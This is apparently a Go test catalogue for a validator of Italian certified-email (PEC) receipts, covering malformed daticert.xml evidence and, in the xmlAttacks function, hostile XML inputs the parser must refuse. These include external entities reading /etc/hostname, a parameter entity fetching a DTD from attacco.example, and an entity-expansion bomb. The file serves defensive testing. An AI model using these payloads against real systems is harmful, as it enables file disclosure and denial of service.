package pectest

import (
	"bytes"
	"strings"
)

func evidenceVectors(c *catalogue) {
	o, d := c.o, c.o.Dispatch()
	const malformed, inconsistent = "EVIDENCE_MALFORMED", "EVIDENCE_INCONSISTENT"
	authentic := checks{"signature.digest": "passed", "signature.value": "passed", "trust.provider": "passed"}
	xml := func(m *Message, change func([]byte) []byte) *Message {
		m.XML = change
		return m
	}
	swap := func(old, new string) func([]byte) []byte {
		return func(b []byte) []byte { return Replace(b, old, new) }
	}
	omit := func(m *Message, names ...string) *Message {
		m.Data.Omit = names
		return m
	}
	c.add("daticert-missing", "A provider signed a text alone, under the header of a receipt: no daticert.xml.", withoutDaticert(d.Accettazione()), failed("", nil, malformed, authentic))
	m := d.Consegna()
	m.Parts = func(parts []Part) []Part {
		return []Part{parts[0], {Header: Header{{"Content-Type", `text/plain; name="gestore.txt"`}}, Coding: "7bit", Content: []byte("x\r\n")}, parts[2]}
	}
	c.fail("daticert-missing-in-consegna", "Text, another part and postacert.eml, and no daticert.xml.", m, malformed, authentic)
	m = d.Consegna()
	m.Parts = func(parts []Part) []Part { return append(parts, parts[1]) }
	c.fail("daticert-twice", "The same daticert.xml twice.", m, malformed, authentic)
	m = d.Consegna()
	m.Parts = func(parts []Part) []Part {
		return append(parts, DaticertPart(Replace(d.Consegna().Data.XML(), "pec.comune-prova", "pec.altro-comune"), "base64"))
	}
	c.fail("daticert-two-that-differ", "Two daticert.xml that differ.", m, malformed, authentic)
	c.fail("msgid-not-escaped", "daticert.xml is not well formed: the brackets of msgid are not escaped.", xml(d.Consegna(), func(b []byte) []byte {
		return []byte(strings.NewReplacer("&lt;", "<", "&gt;", ">").Replace(string(b)))
	}), malformed, authentic)
	for _, name := range []string{"mittente", "destinatari", "risposte", "gestore-emittente", "data", "giorno", "ora", "identificativo"} {
		c.fail("missing-"+name, "The element "+name+", which the DTD demands, is missing.", omit(d.Consegna(), name), malformed, authentic)
	}
	c.fail("missing-tipo", "The attribute tipo is missing.", xml(d.Consegna(), swap(` tipo="avvenuta-consegna"`, "")), malformed, authentic)
	c.fail("missing-zona", "The attribute zona is missing.", xml(d.Consegna(), swap(` zona="+0100"`, "")), malformed, authentic)
	c.fail("unknown-tipo", "A tipo that the rules do not have.", xml(d.ErroreConsegna("no-dest", "5.1.1"), swap(`"errore-consegna"`, `"mancata-consegna"`)), malformed, authentic)
	c.fail("unknown-errore", "An errore that the rules do not have.", xml(d.ErroreConsegna("no-dest", "5.1.1"), swap(`"no-dest"`, `"casella-piena"`)), malformed, authentic)
	c.fail("no-such-day", "A day that does not exist: 31 February.", xml(d.Consegna(), swap("12/03/2025", "31/02/2025")), malformed, authentic)
	c.fail("no-such-hour", "An hour that does not exist: 25.", xml(d.Consegna(), swap("10:15:32", "25:15:32")), malformed, authentic)
	c.fail("zona-by-name", "A zone by its name.", xml(d.Consegna(), swap(`"+0100"`, `"CET"`)), malformed, authentic)
	c.fail("empty-daticert", "daticert.xml is empty.", xml(d.Consegna(), func([]byte) []byte { return nil }), malformed, authentic)

	c.fail("missing-consegna", "A delivery receipt without consegna.", omit(d.Consegna(), "consegna"), inconsistent, authentic)
	c.fail("missing-ricevuta", "A delivery receipt without ricevuta.", omit(d.Consegna(), "ricevuta"), inconsistent, authentic)
	c.fail("missing-ricevuta-in-envelope", "A transport envelope without ricevuta.", omit(d.PostaCertificata(), "ricevuta"), inconsistent, authentic)
	c.fail("missing-ricezione", "A receipt from provider to provider without ricezione.", omit(d.PresaInCarico(), "ricezione"), inconsistent, authentic)
	c.fail("missing-consegna-in-error", "A non-delivery without consegna.", omit(d.ErroreConsegna("no-dest", "5.1.1"), "consegna"), inconsistent, authentic)
	c.fail("missing-consegna-in-preavviso", "A notice after twelve hours without consegna.", omit(d.Preavviso(12), "consegna"), inconsistent, authentic)
	c.fail("missing-consegna-in-virus-notice", "A virus notice without consegna.", omit(d.RilevazioneVirus(), "consegna"), inconsistent, authentic)
	m = d.Consegna()
	m.Data.Errore = "no-dest"
	c.fail("delivered-with-error", "A delivery receipt that states an error.", m, inconsistent, authentic)
	m = d.Consegna()
	m.Data.Identifier = "opec210.20250312101530.99999.999.9.99@pec.gestore-uno.example.it"
	c.fail("identifier-differs", "identificativo is not the Message-ID of postacert.eml.", m, inconsistent, authentic)
	m = d.PostaCertificata()
	m.Data.MessageID = "<un.altro@studio-bianchi.example>"
	c.fail("msgid-differs", "msgid is not the X-Riferimento-Message-ID of postacert.eml.", m, inconsistent, authentic)
	other := o.Dispatch()
	other.Original.Header.Set("Message-ID", "<opec210.20250312101530.88888.888.8.88@pec.gestore-uno.example.it>")
	m = d.Consegna()
	m.Original = other.Original.Bytes()
	c.fail("another-message-inside", "postacert.eml is another message.", m, inconsistent, authentic)
	m = d.Consegna()
	m.Parts = func(parts []Part) []Part {
		second := o.Dispatch()
		second.Original.Text = "Un altro testo.\n"
		return append(parts, OriginalPart(second.Original.Bytes(), "7bit"))
	}
	c.fail("two-postacert", "Two postacert.eml that differ, with the same identifiers.", m, inconsistent, authentic)

	agrees := checks{"evidence.form": "passed", "evidence.consistency": "passed"}
	m = d.Consegna()
	v := c.pass("brackets", "identificativo with angle brackets and msgid without: the same identifiers.", xml(m, func(b []byte) []byte {
		b = Replace(b, d.Identifier, "&lt;"+d.Identifier+"&gt;")
		return Replace(b, "&lt;"+strings.Trim(d.ClientID, "<>")+"&gt;", strings.Trim(d.ClientID, "<>"))
	}), agrees)
	delete(v.Expect[0].Certified, "identifier")
	delete(v.Expect[0].Certified, "messageID")
	c.pass("white-space", "White space around every value.", xml(d.Consegna(), func(b []byte) []byte {
		for _, n := range []string{"mittente", "gestore-emittente", "giorno", "ora", "identificativo", "consegna"} {
			b = Replace(Replace(b, "<"+n+">", "<"+n+">\n\t "), "</"+n+">", " \n</"+n+">")
		}
		return b
	}), agrees)
	c.pass("no-errore", "errore is left out: its default is nessuno.", xml(d.Consegna(), swap(` errore="nessuno"`, "")), agrees)
	c.pass("no-recipient-type", "tipo of destinatari is left out: its default is certificato.", xml(d.Consegna(), swap(`<destinatari tipo="certificato">`, "<destinatari>")), agrees)
	c.pass("unknown-element", "An element that the rules do not have.", xml(d.Consegna(), swap("    </dati>", "        <nota-gestore>prova</nota-gestore>\n    </dati>")), agrees)
	c.pass("no-declaration", "No XML declaration.", xml(d.Consegna(), swap(`<?xml version="1.0" encoding="UTF-8"?>`+"\n", "")), agrees)
	m = d.Consegna()
	m.Original = nil
	c.pass("message-absent", "A receipt that says completa and carries no message.", m, checks{"content.absent": "warning"})
	m = d.Consegna()
	m.Data.Gestore = "GESTORE  DUE S.P.A."
	c.pass("provider-spelling", "gestore-emittente in another spelling than the certificate.", m, checks{"evidence.provider": "passed"})
	m = d.Consegna()
	m.Data.Gestore = "Gestore Quattro S.r.l."
	c.pass("provider-name-differs", "gestore-emittente is not recognisably the signer.", m, checks{"evidence.provider": "warning"})
	c.add("consegna-without-daticert", "A delivery receipt's text and message, signed, and no daticert.xml: its own text says that it is no anomaly envelope.",
		withoutDaticert(d.Consegna()), failed("", nil, malformed, authentic))
	m = anomalia(o, d.Original.Bytes())
	m.Parts = func(parts []Part) []Part {
		parts[0].Content = []byte("Testo qualunque.\r\n")
		return parts
	}
	c.add("anomaly-in-the-header-only", "A provider signed a text and a message; only the header says that it is an anomaly envelope.", m.Bytes(),
		failed("", nil, malformed, authentic))
	m = d.Accettazione()
	m.Parts = func(parts []Part) []Part {
		return append(parts, Part{Header: Header{{"Content-Type", `message/rfc822; name="informativa.eml"`}}, Content: []byte("Message-ID: <informativa@pec.gestore-uno.example.it>\r\nSubject: Informativa\r\n\r\nTesto.\r\n")})
	}
	c.pass("another-message-of-the-provider", "A message that the provider attached, by a name of its own, is not the certified one.", m, agrees)
}

// withoutDaticert is the message with that part left out of what is signed.
func withoutDaticert(m *Message) []byte {
	m.Parts = func(parts []Part) []Part { return append(parts[:1:1], parts[2:]...) }
	return m.Bytes()
}

func xmlAttacks(c *catalogue) {
	d := c.o.Dispatch()
	const malformed = "EVIDENCE_MALFORMED"
	authentic := checks{"signature.digest": "passed", "signature.value": "passed"}
	refuse := func(name, shows string, change func([]byte) []byte) {
		m := d.Consegna()
		m.XML = change
		c.fail(name, shows, m, malformed, authentic)
	}
	accept := func(name, shows string, change func([]byte) []byte) {
		m := d.Consegna()
		m.XML = change
		c.pass(name, shows, m, checks{"evidence.form": "passed"})
	}
	doctype := func(text string) func([]byte) []byte {
		return func(b []byte) []byte { return Replace(b, "<postacert ", text+"\n<postacert ") }
	}
	both := func(f, g func([]byte) []byte) func([]byte) []byte { return func(b []byte) []byte { return g(f(b)) } }
	swap := func(old, new string) func([]byte) []byte {
		return func(b []byte) []byte { return Replace(b, old, new) }
	}
	to := "<consegna>protocollo@pec.comune-prova.example</consegna>"
	id := "<identificativo>" + d.Identifier + "</identificativo>"
	refuse("entity-declared", "A DOCTYPE that declares an entity, which nobody uses.", doctype(`<!DOCTYPE postacert [<!ENTITY chi "x">]>`))
	refuse("entity-used", "A declared entity stands for the recipient.", both(doctype(`<!DOCTYPE postacert [<!ENTITY chi "protocollo@pec.comune-prova.example">]>`), swap(to, "<consegna>&chi;</consegna>")))
	refuse("entity-undeclared", "An entity that nobody declared.", swap(to, "<consegna>&chi;</consegna>"))
	refuse("entity-external", "An external entity.", both(doctype(`<!DOCTYPE postacert [<!ENTITY chi SYSTEM "file:///etc/hostname">]>`), swap(to, "<consegna>&chi;</consegna>")))
	refuse("entity-parameter", "A parameter entity.", doctype(`<!DOCTYPE postacert [<!ENTITY % x SYSTEM "http://attacco.example/x.dtd"> %x;]>`))
	refuse("expansion-bomb", "Entities that expand to entities.", both(doctype(`<!DOCTYPE postacert [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>`), swap(to, "<consegna>&d;</consegna>")))
	accept("doctype-plain", "A DOCTYPE that declares no entity is ignored.", doctype("<!DOCTYPE postacert>"))
	accept("doctype-system", "A DOCTYPE that names a file is ignored, and the file is not loaded.", doctype(`<!DOCTYPE postacert SYSTEM "http://attacco.example/daticert.dtd">`))
	accept("doctype-elements", "A DOCTYPE that declares elements and no entity is ignored.", doctype("<!DOCTYPE postacert [<!ELEMENT oggetto (#PCDATA)>]>"))
	accept("comment", "A comment inside a value is ignored.", swap("protocollo@pec.comune-prova.example</consegna>", "protocollo<!-- altro@pec.example -->@pec.comune-prova.example</consegna>"))
	accept("comment-with-elements", "Elements inside a comment are no elements.", swap(to, "<!-- <consegna>altro@pec.example</consegna> -->"+to))
	accept("processing-instruction", "Processing instructions are ignored.", swap("<dati>", `<?xml-stylesheet href="x.xsl"?><dati>`))
	accept("cdata", "A value in CDATA.", swap(to, "<consegna><![CDATA[protocollo@pec.comune-prova.example]]></consegna>"))
	accept("character-reference", "A value with character references.", swap(to, "<consegna>protocollo&#64;pec.comune&#x2d;prova.example</consegna>"))
	accept("single-quotes", "Attributes in single quotes, in another order.", swap(`tipo="avvenuta-consegna" errore="nessuno"`, `errore='nessuno' tipo='avvenuta-consegna'`))
	refuse("attribute-twice", "tipo twice.", swap(`tipo="avvenuta-consegna"`, `tipo="accettazione" tipo="avvenuta-consegna"`))
	refuse("identifier-twice", "identificativo twice.", swap(id, id+"<identificativo>altro@pec.example</identificativo>"))
	refuse("consegna-twice", "consegna twice.", swap(to, "<consegna>altro@pec.comune-prova.example</consegna>"+to))
	refuse("mittente-twice", "mittente twice.", swap("<mittente>", "<mittente>altro@pec.example</mittente><mittente>"))
	refuse("data-twice", "data twice.", swap("<identificativo>", `<data zona="+0100"><giorno>01/01/2025</giorno><ora>00:00:00</ora></data><identificativo>`))
	refuse("dati-twice", "dati twice.", swap("</postacert>", "<dati></dati></postacert>"))
	refuse("wrong-root", "Another root element.", func(b []byte) []byte { return bytes.ReplaceAll(b, []byte("postacert "), []byte("postacerto ")) })
	refuse("wrong-root-closed", "Another root element, well formed.", func(b []byte) []byte { return bytes.ReplaceAll(b, []byte("postacert"), []byte("postacertificata")) })
	refuse("root-wrapped", "The rules' root inside another one.", func(b []byte) []byte {
		return append(Replace(b, "<postacert ", "<busta><postacert "), "</busta>"...)
	})
	refuse("two-roots", "Two root elements.", func(b []byte) []byte {
		return append(bytes.Clone(b), `<postacert tipo="accettazione" errore="nessuno"/>`...)
	})
	refuse("text-after-root", "Text after the root element.", func(b []byte) []byte { return append(bytes.Clone(b), "altro"...) })
	refuse("namespace-on-root", "The root in a foreign namespace.", swap("<postacert ", `<postacert xmlns="http://attacco.example/ns" `))
	refuse("namespace-on-element", "A known name in a foreign namespace.", swap(to, to+`<x:consegna xmlns:x="http://attacco.example/ns">altro@pec.example</x:consegna>`))
	refuse("deep", "Three hundred levels.", swap("    </dati>", strings.Repeat("<x>", 300)+strings.Repeat("</x>", 300)+"</dati>"))
	marked := func(name, shows, subject string, change func([]byte) []byte) {
		m := d.Consegna()
		m.XML = change
		c.pass(name, shows+" U+FFFD stands for it.", m, checks{"evidence.form": "warning"}).Expect[0].Certified = map[string]any{"subject": subject, "deliveredTo": m.Data.Consegna}
	}
	for _, v := range [][4]string{{"nul", "A NUL byte in a value.", "\x00", "\uFFFD"}, {"control", "A control character in a value.", "\x1b[2J", "\uFFFD[2J"},
		{"control-reference", "A control character by reference, which XML 1.0 forbids.", "&#x1B;", "\uFFFD"}, {"nul-reference", "NUL by reference.", "&#0;", "\uFFFD"},
		{"control-both", "A control character in itself and by reference, and a letter by reference.", "\x08&#65;&#8;", "\uFFFDA\uFFFD"},
		{"surrogates", "A character beyond the first 65,536 by reference to its halves, as old writers put it.", "&#55357;&#56832;", "\uFFFD\uFFFD"}} {
		marked(v[0], v[1], "Trasmissione atti prot."+v[3]+"1234/2025", swap("prot. 1234", "prot."+v[2]+"1234"))
	}
	sender := c.o.Dispatch()
	sender.ClientID, sender.Subject = "<cli\x01ent@host.example>", "Atti\x1b[2J"
	sender.Original = sender.NewOriginal()
	sender.Original.Header.Set("Subject", sender.Subject)
	whole := EditHeader(sender.PostaCertificata().Bytes(), func(h *Header) { h.Set("Subject", "POSTA CERTIFICATA: "+sender.Subject) })
	c.add("control-of-the-sender", "Control characters in the sender's Subject and Message-ID: message and daticert.xml have the same.", whole,
		Expectation{Kind: "posta-certificata", Indication: "TOTAL-PASSED", Certified: map[string]any{"subject": "Atti\uFFFD[2J", "messageID": "<cli\uFFFDent@host.example>"},
			Checks: checks{"evidence.form": "warning", "evidence.consistency": "passed", "headers.subject": "passed", "headers.reference": "passed"}})
	refuse("control-between", "A control character between elements.", swap("    <dati>", "\x01<dati>"))
	refuse("control-kind", "A control character in the kind.", swap(`tipo="avvenuta-consegna"`, `tipo="avvenuta-consegna&#1;"`))
	long := strings.Repeat("x", 5000)
	m := d.Consegna()
	m.XML = swap("&lt;"+strings.Trim(d.ClientID, "<>"), "&lt;"+long)
	c.pass("msgid-long", "A msgid of 5,000 characters is left out, and the rest is read.", m, checks{"evidence.form": "warning"}).Expect[0].Certified["messageID"] = ""
	refuse("utf-16", "UTF-16.", func(b []byte) []byte {
		out := []byte{0xff, 0xfe}
		for _, x := range string(Replace(b, "UTF-8", "UTF-16")) {
			out = append(out, byte(x), byte(x>>8))
		}
		return out
	})
	refuse("not-utf-8", "Bytes that are not the UTF-8 that is declared.", swap("prot. 1234", "citt\xe0 1234"))
	refuse("overlong-utf-8", "An overlong UTF-8 sequence.", swap("prot. 1234", "prot\xc0\xae 1234"))
	refuse("unknown-encoding", "An encoding that the rules do not know.", swap("UTF-8", "UTF-7"))
	refuse("cut-off", "The document is cut off.", func(b []byte) []byte { return b[:len(b)-30] })
	refuse("no-xml", "No XML at all.", func([]byte) []byte { return []byte("tipo=avvenuta-consegna\n") })
	refuse("element-in-value", "An element inside a value.", swap(to, "<consegna>protocollo@pec.comune-prova.example<b>altro</b></consegna>"))
}
